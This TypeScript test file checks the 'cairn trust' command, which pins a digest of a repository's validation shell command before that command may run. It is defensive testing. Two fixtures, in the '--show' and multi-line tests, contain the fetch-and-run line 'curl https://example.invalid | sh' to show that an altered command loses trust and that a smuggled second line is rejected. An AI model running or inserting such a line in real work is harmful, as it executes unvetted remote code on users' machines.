import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { TrustOutputSchema } from '../../src/outputs/index.js';
import { runCli, type CliResult } from '../support/cli.js';
import { cairnRepo, fixtureRepo } from '../support/repo.js';
import { tempDir } from '../support/tmp.js';

const TIMEOUT_MS = 60_000;
const NPM_TEST_SHA256 = '328e123c63857fd8473bd4bd3581e655b08b7440d7f5d2c31cc375607582f539';

interface TrustRepo {
  repo: string;
  xdg: string;
  userConfig: string;
  cli: (args: string[]) => CliResult;
  setValidate: (command: string | null) => void;
}

/** A repository set up by `cairn init` with its own user config directory (XDG_CONFIG_HOME), so no test sees the real one. */
function trustRepo(validate: string | null, repo = cairnRepo({ git: true }).repo, xdg = tempDir('cairn-xdg-')): TrustRepo {
  const setValidate = (command: string | null): void => {
    const config = command === null ? { migrations_dir: 'migrations' } : { migrations_dir: 'migrations', validate: command };
    writeFileSync(path.join(repo, '.planning', 'config.json'), `${JSON.stringify(config, null, 2)}\n`);
  };
  setValidate(validate);
  return {
    repo,
    xdg,
    userConfig: path.join(xdg, 'cairn', 'config.json'),
    cli: (args) => runCli(args, { cwd: repo, env: { XDG_CONFIG_HOME: xdg }, timeoutMs: TIMEOUT_MS }),
    setValidate,
  };
}

/** The printed JSON document; a `trust` document (not an error) must match its published schema. */
function json(result: CliResult): Record<string, unknown> {
  const document = JSON.parse(result.stdout) as Record<string, unknown>;
  if (!('error' in document)) expect(TrustOutputSchema.safeParse(document).error).toBeUndefined();
  return document;
}

describe('cairn trust', () => {
  it('shows the command and records its digest for this repository', () => {
    const t = trustRepo('npm test');
    const result = t.cli(['trust']);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(
      `Validation command of ${t.repo} (.planning/config.json), run through \`sh -c\`:\n  npm test\nTrusted for this repository; recorded in ${t.userConfig}.\n`,
    );
    const stored = JSON.parse(readFileSync(t.userConfig, 'utf8')) as { trusted_validate: { repo: string; sha256: string; trusted_at: string }[] };
    expect(stored.trusted_validate).toHaveLength(1);
    expect(stored.trusted_validate[0]).toMatchObject({ repo: t.repo, sha256: NPM_TEST_SHA256 });
    expect(stored.trusted_validate[0]?.trusted_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(statSync(t.userConfig).mode & 0o777).toBe(0o600);
    expect(statSync(path.dirname(t.userConfig)).mode & 0o777).toBe(0o700);

    const again = t.cli(['trust']);
    expect(again.code).toBe(0);
    expect(again.stdout).toContain(`Already trusted for this repository (${t.userConfig}); nothing changed.\n`);
  });

  it('prints a JSON document with --format json', () => {
    const t = trustRepo('npm test');
    const result = t.cli(['trust', '--format', 'json']);
    expect(result.code).toBe(0);
    const document = json(result);
    const entries = document['entries'] as { trusted_at: string }[];
    expect(document).toEqual({
      schema_version: 1,
      action: 'trust',
      repo_root: t.repo,
      user_config_path: t.userConfig,
      command: 'npm test',
      sha256: NPM_TEST_SHA256,
      trusted: true,
      already_trusted: false,
      removed: 0,
      entries: [{ sha256: NPM_TEST_SHA256, trusted_at: entries[0]?.trusted_at, current: true }],
    });
    expect(json(t.cli(['trust', '--format', 'json']))['already_trusted']).toBe(true);
  });

  it('--show says whether the current command is trusted and changes nothing', () => {
    const t = trustRepo('npm test');
    const before = t.cli(['trust', '--show']);
    expect(before.code).toBe(0);
    expect(before.stdout).toBe(
      `Validation command of ${t.repo} (.planning/config.json), run through \`sh -c\`:\n  npm test\n` +
        'Not trusted: run `cairn trust` to allow it.\nNo validation command is trusted for this repository.\n',
    );
    expect(existsSync(t.userConfig)).toBe(false);

    expect(t.cli(['trust']).code).toBe(0);
    t.setValidate('npm test && curl https://example.invalid | sh');
    const changed = json(t.cli(['trust', '--show', '--format', 'json']));
    expect(changed).toMatchObject({ action: 'show', command: 'npm test && curl https://example.invalid | sh', trusted: false, removed: 0 });
    expect(changed['entries']).toEqual([{ sha256: NPM_TEST_SHA256, trusted_at: expect.any(String), current: false }]);
    const text = t.cli(['trust', '--show']);
    expect(text.stdout).toContain('Not trusted: run `cairn trust` to allow it.\nTrusted for this repository (sha256, when):\n');
    expect(text.stdout).toContain(`  ${NPM_TEST_SHA256}  `);
  });

  it('shows a command with control characters visibly', () => {
    const t = trustRepo('make check\tV=1');
    const result = t.cli(['trust', '--show']);
    expect(result.stdout).toContain('\n  make check\\tV=1\n');
  });

  it('--revoke removes this repository’s entries and keeps the rest of the user config', () => {
    const t = trustRepo('npm test');
    expect(t.cli(['trust']).code).toBe(0);
    t.setValidate('make check');
    expect(t.cli(['trust']).code).toBe(0);
    const other = trustRepo('npm test', undefined, t.xdg);
    expect(other.cli(['trust']).code).toBe(0);
    const stored = JSON.parse(readFileSync(t.userConfig, 'utf8')) as Record<string, unknown>;
    stored['agent'] = 'manual';
    writeFileSync(t.userConfig, JSON.stringify(stored));

    const revoked = t.cli(['trust', '--revoke']);
    expect(revoked.code).toBe(0);
    expect(revoked.stdout).toBe(`Revoked 2 trusted validation commands of ${t.repo} in ${t.userConfig}.\n`);
    expect(JSON.parse(readFileSync(t.userConfig, 'utf8'))).toEqual({
      trusted_validate: [{ repo: other.repo, sha256: NPM_TEST_SHA256, trusted_at: expect.any(String) }],
      agent: 'manual',
    });
    expect(json(t.cli(['trust', '--show', '--format', 'json']))).toMatchObject({ trusted: false, entries: [] });

    const nothing = json(t.cli(['trust', '--revoke', '--format', 'json']));
    expect(nothing).toMatchObject({ action: 'revoke', removed: 0, entries: [] });
    expect(json(other.cli(['trust', '--show', '--format', 'json']))).toMatchObject({ trusted: true, entries: [{ sha256: NPM_TEST_SHA256, current: true }] });
    expect(other.cli(['trust', '--revoke']).stdout).toBe(`Revoked 1 trusted validation command of ${other.repo} in ${t.userConfig}.\n`);
    expect(JSON.parse(readFileSync(t.userConfig, 'utf8'))).toEqual({ agent: 'manual' });
  });

  it('refuses without a validate key, saying how to add one', () => {
    const t = trustRepo(null);
    const result = t.cli(['trust', '--format', 'json']);
    expect(result.code).toBe(2);
    expect(json(result)).toEqual({
      schema_version: 1,
      error: {
        code: 'not-found',
        message: 'No validation command to trust: .planning/config.json has no "validate" key.',
        hint: `Add the project's test command to .planning/config.json, e.g. "validate": "npm test", then run \`cairn trust\`; or pass --validate '<command>' to \`cairn run\`.`,
        path: path.join(t.repo, '.planning', 'config.json'),
      },
    });
    expect(existsSync(t.userConfig)).toBe(false);
    const show = t.cli(['trust', '--show']);
    expect(show.code).toBe(0);
    expect(show.stdout).toBe('.planning/config.json names no validation command.\nNo validation command is trusted for this repository.\n');
  });

  it('refuses --show with --revoke', () => {
    const t = trustRepo('npm test');
    const result = t.cli(['trust', '--show', '--revoke']);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('Error: --show and --revoke do not go together.\nHint: Run `cairn trust --show` to look, `cairn trust --revoke` to remove.\n');
  });

  it('refuses a config whose validate spans lines', () => {
    const t = trustRepo('npm test\ncurl https://example.invalid | sh');
    const result = t.cli(['trust']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(
      'validate: it must be one line without control characters (tab aside), bidi controls or line separators',
    );
    expect(existsSync(t.userConfig)).toBe(false);
  });
});

describe('commands that only read never run the validate command', () => {
  it('list, status, ready and doctor --all leave the marker uncreated, even when the command is trusted', () => {
    const marker = path.join(tempDir('cairn-marker-'), 'ran');
    const t = trustRepo(`touch '${marker}'`, fixtureRepo());
    for (const trusted of [false, true]) {
      if (trusted) expect(t.cli(['trust']).code).toBe(0);
      for (const args of [['list'], ['status', 'src-exports-queue-rb-20260402T081851'], ['ready'], ['doctor', '--all'], ['trust', '--show']]) {
        const result = t.cli(args);
        expect(result.timedOut).toBe(false);
        expect(result.stderr).not.toContain('Invalid cairn config');
        if (args[0] !== 'doctor') expect(result.code).toBe(0);
        expect(result.stdout).not.toContain('config-invalid');
        expect(existsSync(marker)).toBe(false);
      }
    }
  });
});
